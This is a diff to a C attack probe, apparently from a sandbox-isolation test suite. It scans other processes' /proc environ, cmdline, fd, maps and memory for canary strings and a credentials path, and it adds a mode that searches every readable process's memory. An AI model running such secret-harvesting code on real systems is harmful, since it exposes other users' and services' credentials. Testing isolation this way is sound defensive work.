@@ -1,5 +1,6 @@
 /* read_processes WHAT...: looks for secrets in the environ, cmdline, … of every other process, and for a way into the
- * fd, maps and mem of PID 1 and whatever else is caisson. `for SECONDS` looks again and again. */
+ * fd, maps and mem of PID 1 and whatever else is caisson. `for SECONDS` looks again and again; with `everybody` it
+ * searches the memory of all that it can, whoever they are. */
 #include "attack.h"
 
 #include <ctype.h>
@@ -8,6 +9,8 @@
 #include <time.h>
 
 #define PIECE (1 << 20)
+
+static bool everybody;
 
 static const char *const wanted[] = {"canary-", "/v2/credentials/"};
 
@@ -56,7 +59,7 @@ static void read_memory(const char *process)
     maps = fopen(path, "re");
     snprintf(path, sizeof path, "/proc/%s/mem", process);
     mem = open(path, O_RDONLY | O_CLOEXEC);
-    if (maps && mem >= 0)
+    if (maps && mem >= 0 && !everybody)
         won("mapped and opened %s", path);
     while (maps && mem >= 0 && fgets(line, sizeof line, maps))
         if (sscanf(line, "%lx-%lx", &from, &to) == 2)
@@ -110,7 +113,7 @@ static bool is_caisson(const char *process)
         *name = '\0';
     if (file)
         fclose(file);
-    return strncmp(name, "caisson", 7) == 0 || strncmp(name, "exe", 3) == 0;
+    return strncmp(name, "caisson", 7) == 0 || strcmp(name, "exe\n") == 0; /* started by a descriptor */
 }
 
 static bool can_read(const char *path)
@@ -131,7 +134,7 @@ static void look(const char *process, int argc, char **argv)
     for (i = 1; i < argc; i++) {
         bool inside = strcmp(argv[i], "mem") == 0 || strcmp(argv[i], "fd") == 0 || strcmp(argv[i], "maps") == 0;
 
-        if (inside && !is_caisson(process))
+        if (inside && !everybody && !is_caisson(process))
             continue;
         snprintf(path, sizeof path, "/proc/%s/%s", process, argv[i]);
         if (strcmp(argv[i], "mem") == 0)
@@ -165,6 +168,11 @@ int main(int argc, char **argv)
         end = time(NULL) + atoi(argv[2]);
         argv += 2;
         argc -= 2;
+    }
+    if (argc > 1 && strcmp(argv[1], "everybody") == 0) {
+        everybody = true;
+        argv++;
+        argc--;
     }
     do {
         look_at_all(argc, argv);
